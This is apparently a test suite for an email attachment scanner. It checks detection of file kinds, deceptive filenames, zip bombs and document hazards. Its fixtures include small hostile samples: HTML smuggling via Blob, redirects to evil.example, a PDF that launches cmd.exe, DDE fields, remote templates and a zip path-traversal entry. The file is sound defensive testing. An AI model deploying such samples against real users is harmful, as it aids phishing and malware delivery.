import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import process from 'node:process'
import { describe, expect, it } from 'vitest'
import { latin, makeOle, makePackedPdf, makePdf, makePng, makeZip, utf8 } from '../testing/make-files.ts'
import { fileKind } from './file-kind.ts'
import { readFileName } from './file-name.ts'
import { inflateRaw } from './inflate.ts'
import { readFile } from './read-file.ts'
import { listZip } from './zip.ts'

const read = (fileName: string, body: Uint8Array, type = 'application/octet-stream') =>
  readFile({ part: '2', type, fileName, contentId: '', inline: false, body })
const hazards = (fileName: string, body: Uint8Array, type?: string) => [...read(fileName, body, type).hazards].sort()

const PNG = makePng(4, 4)
const EXE = latin('MZ\x90\0\x03\0\0\0')
const OOXML = '[Content_Types].xml'

describe('what a file is', () => {
  it.each([
    ['jpeg', latin('\xff\xd8\xff\xe0\0\x10JFIF')],
    ['png', PNG],
    ['gif', latin('GIF89a')],
    ['webp', latin('RIFF\0\0\0\0WEBP')],
    ['heic', latin('\0\0\0\x18ftypheic')],
    ['avif', latin('\0\0\0\x18ftypavif')],
    ['video', latin('\0\0\0\x18ftypmp42')],
    ['svg', utf8('<?xml version="1.0"?><svg xmlns="x">')],
    ['pdf', latin('junk\n%PDF-1.4')],
    ['zip', makeZip([{ name: 'a' }])],
    ['ole', makeOle([{ name: 'x' }])],
    ['rtf', latin('{\\rtf1')],
    ['exe', EXE],
    ['shortcut', latin('L\0\0\0\x01\x14\x02\0')],
    ['shortcut', utf8('[InternetShortcut]\nURL=file://x')],
    ['html', utf8('\n <!doctype HTML><p>')],
    ['html', utf8('text <script>x</script>')],
    ['html', latin('\xff\xfe<\0h\0t\0m\0l\0>\0')],
    ['calendar', utf8('BEGIN:VCALENDAR')],
    ['card', utf8('begin:vcard')],
    ['message', utf8('Received: from x')],
    ['script', utf8('@echo off')],
    ['script', utf8('var x = new ActiveXObject("WScript.Shell")')],
    ['text', utf8('Dear Dr Müller')],
    ['unknown', latin('\0\x01\x02\x03')],
    ['empty', new Uint8Array(0)],
  ])('%s', (kind, body) => {
    expect(fileKind(body)).toBe(kind)
  })
})

describe('what a name claims', () => {
  it.each([
    ['photo.jpg', 'picture', false, false, false],
    ['photo.jpg.exe', 'program', true, false, false],
    ['report.pdf .scr', 'program', true, false, false],
    ['invoice.pdf.html', 'page', true, false, false],
    ['archive.tar.gz', 'archive', false, false, false],
    ['my.holiday.photos.zip', 'archive', false, false, false],
    ['ann\u202egpj.exe', 'program', false, true, false],
    [`photo.jpg${' '.repeat(40)}.exe`, 'program', true, false, true],
    ['README', 'none', false, false, false],
    ['form.docm', 'macro-office', false, false, false],
    ['x.exe. . .', 'program', false, false, false],
  ])('%j claims %s', (name, claim, double, turned, pushed) => {
    expect(readFileName(name)).toMatchObject({ claim, double, turned, pushed })
  })
  it('shows no letter that steers the display', () => {
    expect(readFileName('ann\u202egpj.exe\n\u0007').shown).toBe('anngpj.exe')
    expect(readFileName('x'.repeat(5_000)).shown).toHaveLength(200)
  })
})

describe('what makes it dangerous', () => {
  it.each([
    ['an honest photo', 'IMG_1.jpg', latin('\xff\xd8\xff\xe0 pixels'), []],
    ['a photo under another picture ending', 'a.jpg', PNG, []],
    ['an honest PDF', 'a.pdf', makePdf('<< /Type /Page >>'), []],
    [
      'an honest document',
      'a.docx',
      makeZip([{ name: OOXML }, { name: 'word/document.xml', body: '<w:t>My name is Dde and JS</w:t>' }]),
      [],
    ],
    ['an honest archive', 'a.zip', makeZip([{ name: 'a.jpg', body: 'x' }]), []],
    ['a program', 'a.exe', EXE, ['PROGRAM']],
    ['a program called a photo', 'a.jpg', EXE, ['OTHER_KIND', 'PROGRAM']],
    ['a program declared a photo', 'a', EXE, ['OTHER_KIND', 'PROGRAM'], 'image/jpeg'],
    ['a script', 'a.js', utf8('var a = 1'), ['SCRIPT']],
    ['a shortcut', 'photo.jpg.lnk', latin('L\0\0\0\x01\x14\x02\0'), ['DOUBLE_ENDING', 'SHORTCUT']],
    ['a disk', 'a.iso', latin(`${'\0'.repeat(0x8001)}CD001`), ['DISK_IMAGE']],
    ['a turned name', 'ann\u202egpj.exe', EXE, ['PROGRAM', 'TURNED_NAME']],
    ['a page', 'a.html', utf8('<html><p>x</p>'), ['PAGE']],
    ['a page that asks', 'a.html', utf8('<html><form><input type=password></form>'), ['PAGE', 'PAGE_FORM']],
    [
      'a page that moves on',
      'a.htm',
      utf8('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
      ['PAGE', 'PAGE_MOVES_ON'],
    ],
    [
      'a page that builds a file',
      'a.html',
      utf8(`<script>let b=new Blob([atob("${'A'.repeat(2000)}")]);a.href=URL.createObjectURL(b)</script>`),
      ['PAGE', 'PAGE_SCRIPT', 'SMUGGLING'],
    ],
    [
      'a page called a document',
      'form.pdf',
      utf8('<html><script>location="https://evil.example"</script>'),
      ['OTHER_KIND', 'PAGE', 'PAGE_MOVES_ON', 'PAGE_SCRIPT'],
    ],
    ['a drawing', 'a.svg', utf8('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>'), ['DRAWING']],
    [
      'a drawing that runs',
      'a.svg',
      utf8('<svg onload="x()"><script>y()</script></svg>'),
      ['DRAWING', 'DRAWING_SCRIPT'],
    ],
    ['a macro, new format', 'a.docx', makeZip([{ name: OOXML }, { name: 'word/vbaProject.bin' }]), ['MACRO']],
    ['a macro, old format', 'a.doc', makeOle([{ name: 'WordDocument' }, { name: 'Macros', storage: true }]), ['MACRO']],
    [
      'an old macro sheet',
      'a.xls',
      makeOle([{ name: 'Workbook', body: latin('\x85\0\x08\0\0\0\0\0\0\x01\0\0') }]),
      ['OLD_MACRO'],
    ],
    [
      'an object inside',
      'a.docx',
      makeZip([{ name: OOXML }, { name: 'word/embeddings/oleObject1.bin' }]),
      ['OLE_OBJECT'],
    ],
    [
      'DDE',
      'a.docx',
      makeZip([
        { name: OOXML },
        {
          name: 'word/document.xml',
          body: '<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText>',
        },
      ]),
      ['DDE'],
    ],
    [
      'a template from elsewhere',
      'a.docx',
      makeZip([
        { name: OOXML },
        {
          name: 'word/_rels/settings.xml.rels',
          body: '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        },
      ]),
      ['EXTERNAL_TEMPLATE'],
    ],
    ['RTF with an object', 'a.doc', latin('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'), ['OLE_OBJECT']],
    ['a locked document', 'a.docx', makeOle([{ name: 'EncryptedPackage' }, { name: 'EncryptionInfo' }]), ['LOCKED']],
    ['PDF with a script', 'a.pdf', makePdf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), ['PDF_SCRIPT']],
    ['PDF with an escaped name', 'a.pdf', makePdf('<< /S /#4aavaScr#69pt >>'), ['PDF_SCRIPT']],
    ['PDF with a packed script', 'a.pdf', makePackedPdf('<< /S /JavaScript /JS (x) >>'), ['PDF_SCRIPT']],
    ['PDF that launches', 'a.pdf', makePdf('<< /S /Launch /F (cmd.exe) >>'), ['PDF_LAUNCH']],
    ['PDF that carries a file', 'a.pdf', makePdf('<< /Type /Filespec /EF << /F 5 0 R >> >>'), ['PDF_FILE']],
    [
      'PDF that opens an address',
      'a.pdf',
      makePdf('<< /OpenAction << /S /URI /URI (https://evil.example) >> >>'),
      ['PDF_OPENS'],
    ],
    ['a locked archive', 'a.zip', makeZip([{ name: 'a.pdf', locked: true }]), ['LOCKED']],
    ['a program in an archive', 'a.zip', makeZip([{ name: 'photos/a.jpg.exe' }]), ['DOUBLE_ENDING', 'PROGRAM']],
    ['an archive in an archive', 'a.zip', makeZip([{ name: 'a.rar' }]), ['ARCHIVE_IN_ARCHIVE']],
    ['a way out of the folder', 'a.zip', makeZip([{ name: '../../evil.txt' }]), ['PATH_TRICK']],
    ['a picture that is an archive', 'a.png', makePng(4, 4, { after: makeZip([{ name: 'a' }]) }), ['TWO_KINDS']],
    ['a message that lies elsewhere', '', utf8('x'), ['ELSEWHERE'], 'message/external-body'],
    [
      'an invitation with a file',
      'a.ics',
      utf8('BEGIN:VCALENDAR\nBEGIN:VEVENT\nATTACH:https://evil.example/a.exe\nEND:VEVENT\nEND:VCALENDAR'),
      ['CALENDAR_FILE'],
    ],
  ] as const)('%s', (_, name, body, found, type?: string) => {
    expect(hazards(name, body, type)).toEqual(found)
  })

  it('names the links of documents', () => {
    expect(read('a.pdf', makePdf('<< /S /URI /URI (https://evil.example/a\\(b\\)) >>')).links).toEqual([
      'https://evil.example/a(b)',
    ])
    const docx = makeZip([
      { name: OOXML },
      {
        name: 'word/_rels/document.xml.rels',
        body: '<Relationship Type="x/hyperlink" Target="https://evil.example/?a=1&amp;b=2" TargetMode="External"/>',
      },
    ])
    expect(read('a.docx', docx).links).toEqual(['https://evil.example/?a=1&b=2'])
  })

  it('reads the words inside documents, for the judge', () => {
    const docx = makeZip([
      { name: OOXML },
      {
        name: 'word/document.xml',
        body: '<w:p><w:t>Call us </w:t><w:t>today</w:t></w:p><w:p><w:t>A &amp; B</w:t></w:p>',
      },
    ])
    expect(read('a.docx', docx).insideText).toBe('Call us today\nA & B\n')
    expect(
      read('a.pdf', makePdf('stream BT (Call us) Tj [(to) 20 (day) -3 (\\(now\\))] TJ ET endstream')).insideText,
    ).toBe('Call us today(now)')
  })

  it('ends over hostile documents: squared time would be minutes', () => {
    for (const piece of ['(', '[', '1234567890 ', '(a)', '[(a) 1', '\\(', 'TJ', '(a) Tj', '/URI(', '<a<', '<w:t>'])
      read('a.pdf', makePdf(piece.repeat(300_000 / piece.length))).insideText.length
  })

  it('reads invitations and cards', () => {
    const ics =
      'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VTIMEZONE\r\nDTSTART:1970\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\nSUMMARY;X="a:b":Meet\\, Dr\r\nDESCRIPTION:Line one\\nSee htt\r\n ps://evil.example\r\nORGANIZER;CN=X:mailto:x@y.example\r\nDTSTART:20260101T100000Z\r\nATTENDEE:a\r\nEND:VEVENT\r\nEND:VCALENDAR'
    expect(read('a.ics', utf8(ics)).calendar).toMatchObject({
      method: 'REQUEST',
      summary: 'Meet, Dr',
      organizer: 'x@y.example',
      description: 'Line one\nSee https://evil.example',
      start: '20260101T100000Z',
      attendees: 1,
    })
    expect(read('a.vcf', utf8('BEGIN:VCARD\nFN:Ann\nitem1.URL:https://evil.example\nTEL:+1\nEND:VCARD')).card).toEqual({
      name: 'Ann',
      lines: ['FN: Ann', 'TEL: +1'],
      addresses: ['https://evil.example'],
    })
  })
})

describe('bombs', () => {
  it('are refused by their claims, their number and their overlap', () => {
    expect(listZip(makeZip([{ name: 'a', body: 'x', size: 4_000_000_000 }])).bomb).toBe(true)
    expect(listZip(makeZip([{ name: 'a', body: '\0'.repeat(20_000_000) }])).bomb).toBe(true)
    expect(listZip(makeZip(Array.from({ length: 6_000 }, (_, n) => ({ name: `${n}` })))).bomb).toBe(true)
    expect(listZip(makeZip([{ name: 'a', body: 'x'.repeat(1_000) }])).bomb).toBe(false)
  })
  it('cost what the bound allows when they are unpacked all the same', () => {
    const zip = makeZip([{ name: 'a', body: '\0'.repeat(50_000_000), size: 10 }])
    const packed = zip.subarray(31, 31 + 48_000)
    expect(inflateRaw(packed, 1_000_000)).toMatchObject({ whole: false, bytes: { length: 1_000_000 } })
  })
  it('says when two programs would unpack two things', () => {
    expect(listZip(makeZip([{ name: 'a.jpg', localName: 'a.exe' }])).torn).toBe(true)
    expect(listZip(makeZip([{ name: 'a' }], { before: latin('junk') })).torn).toBe(true)
    expect(listZip(makeZip([{ name: 'a' }], { comment: 'hi' })).torn).toBe(false)
    expect(listZip(makeZip([{ name: 'a' }]).subarray(0, 40)).torn).toBe(true)
  })
})

describe('documents made to test such readers', () => {
  const folder =
    process.env.PELLICLE_MAIL_DEV === undefined ? null : join(process.env.PELLICLE_MAIL_DEV, 'attachments', 'oletools')
  it.runIf(folder !== null)('are found, and the clean ones are not', () => {
    const missed: string[] = []
    for (const name of readdirSync(folder!)) {
      const found = read(name.replace(/^[0-9a-f]{8}__/, ''), new Uint8Array(readFileSync(join(folder!, name)))).hazards
      const clean = /harmless-clean(?!\.docm)|__text$|\.xps$/.test(name)
      if (clean !== (found.length === 0)) missed.push(`${name}: ${found.join()}`)
    }
    expect(missed).toEqual([])
  })
})

describe('anything', () => {
  it('is read without a throw: every file of the tests above, cut and flipped', () => {
    const seeds = [
      makeZip([{ name: OOXML }, { name: 'word/_rels/a.rels', body: '<Relationship' }]),
      makeOle([{ name: 'Workbook', body: new Uint8Array(600) }]),
      makePackedPdf('x'),
      PNG,
    ]
    let state = 7
    const random = (below: number) => {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0
      return state % below
    }
    for (let n = 0; n < 3_000; n++) {
      const bytes = seeds[n % seeds.length]!.slice(0, n % 5 === 0 ? random(600) : undefined)
      for (let left = random(10); left > 0; left--) bytes[random(bytes.length)] = random(256)
      read(['a.zip', 'a.doc', 'a.pdf', 'a.svg'][random(4)]!, bytes)
    }
  })
})
